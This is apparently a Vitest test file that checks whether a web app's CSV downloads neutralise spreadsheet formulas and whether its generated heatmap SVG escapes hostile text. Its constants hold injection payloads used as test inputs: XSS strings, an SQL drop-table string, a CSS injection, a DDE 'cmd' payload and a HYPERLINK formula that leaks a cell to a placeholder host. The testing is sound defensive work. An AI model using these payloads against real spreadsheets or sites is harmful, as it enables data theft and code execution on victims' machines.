/**
 * What the downloads hold, checked in Node on hostile text: a table CSV (as DataTable and the
 * charts hand it to downloadCsv) never starts a cell with a formula, and keeps every other text as
 * written; the heatmap picture (SVG text made without the DOM) carries the text escaped, never as
 * elements. The browser tests press one download of each kind per page and check these same rules
 * on the files Chromium saves (tests/e2e/journey.test.ts, tests/e2e/injection.test.ts).
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, tableToCsv } from '../../../src/report/csv';
import { exportTable, type Column } from '../../../src/ui/components/DataTable';
import { heatmapSvg } from '../../../src/ui/components/heatmapSvg';

// The payloads of tests/e2e/injection.test.ts, and more that a spreadsheet would run.
const SQL = `'); DROP TABLE incidents; --`;
const IMG = `<img src=x onerror=alert(1)>`;
const SVG = `"><svg onload=alert(1)>`;
const SCRIPT = `<script>alert(1)</script>`;
const FORMULA = `=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`;
const CSS = `\\"; } * { display: none } @page { @top-left { content: "`;
const FORMULAS = [FORMULA, '=1+1', '@SUM(A1)', '-2+3 "x"', '+cmd|calc', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
const TEXTS = [SQL, IMG, SVG, SCRIPT, CSS, `O'Brien${SVG}`, 'Zoë, “quoted”\nover two lines'];
const NUMBERS = [-3.5, '-2', '+4', '1e-3', 0];

/** The file downloadCsv writes for a DataTable of `values` (one row per value, the value in two columns). */
function tableCsv(values: (string | number)[]): string {
  const columns: Column<{ v: string | number }>[] = [
    { key: 'name', label: 'Name', value: (r) => r.v },
    { key: 'again', label: '=Header', value: (r) => r.v },
    { key: 'button', label: 'Action', value: () => 'never exported', screenOnly: true },
  ];
  const t = exportTable({ columns, rows: values.map((v) => ({ v })) });
  return CSV_BOM + tableToCsv(t.columns, t.rows);
}

/** The rule the browser tests apply to each saved CSV: no cell starts =, +, -, @, tab or CR unless it is a number. */
function neutralCells(text: string): string[][] {
  const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/);
    }
  }
  return rows;
}

describe('a table CSV download', () => {
  const values = [...FORMULAS, ...TEXTS, ...NUMBERS];
  const csv = tableCsv(values);
  const rows = neutralCells(csv);

  it('starts with a byte-order mark, its header neutralised, screen-only columns left out', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(rows[0]).toEqual(['Name', "'=Header"]);
    expect(csv).not.toContain('never exported');
  });

  it('guards every formula with a leading apostrophe, the text after it unchanged', () => {
    const cells = rows.slice(1).map((r) => r[0]);
    for (const [i, f] of FORMULAS.entries()) expect(cells[i]).toBe(`'${f}`);
    expect(rows.slice(1).every((r) => r[0] === r[1])).toBe(true);
  });

  it('keeps markup, SQL, CSS, quotes and line breaks as written, and numbers as numbers', () => {
    const cells = rows.slice(1 + FORMULAS.length).map((r) => r[0]);
    expect(cells).toEqual([...TEXTS, ...NUMBERS.map(String)]);
  });
});

describe('the heatmap picture (SVG)', () => {
  const picture = heatmapSvg({
    title: `Incidents by hour ${IMG}`,
    rowLabels: [SCRIPT, SVG, CSS, `${FORMULA} & more`],
    cell: (row, hour) => ({ text: hour === 3 ? IMG : String(row), fill: '#440154', ink: '#ffffff' }),
    legend: { from: SQL, to: SVG, unit: SCRIPT, colours: ['#fde725', '#440154'], empty: '#eceff1' },
  });
  const svg = picture.text;
  const tags = svg.match(/<[a-zA-Z][^>]*>/g) ?? [];

  it('is a standalone SVG document with nothing that runs or leaves the file', () => {
    // The checks tests/e2e/journey.test.ts applies to each SVG it downloads (handlers looked for
    // in tags: the escaped text itself says onerror=).
    expect(svg).toMatch(/^<\?xml[^>]*>\s*<svg/);
    expect(svg).not.toMatch(/<script|<foreignObject|href="(?!#)/i);
    expect(tags.join('')).not.toMatch(/\son[a-z]+=/i);
  });

  it('carries the text escaped, so every < opens one of its own tags', () => {
    // The checks tests/e2e/injection.test.ts applies to each chart SVG it downloads.
    expect(tags.filter((t) => /^<(img|script|foreignObject|iframe|a)\b/i.test(t))).toEqual([]);
    expect(tags.filter((t) => /\son[a-z]+\s*=/i.test(t))).toEqual([]);
    expect(svg.match(/<svg\b/g)).toHaveLength(1);
    expect(new Set(tags.map((t) => /^<(\w+)/.exec(t)![1]))).toEqual(new Set(['svg', 'title', 'rect', 'text']));
    expect(svg).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(svg).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(svg).toContain('&quot;&gt;&lt;svg onload=alert(1)&gt;');
    expect(svg).toContain('=HYPERLINK(&quot;http://example.invalid/?leak=&quot;&amp;A1,&quot;Click&quot;) &amp; more');
  });
});
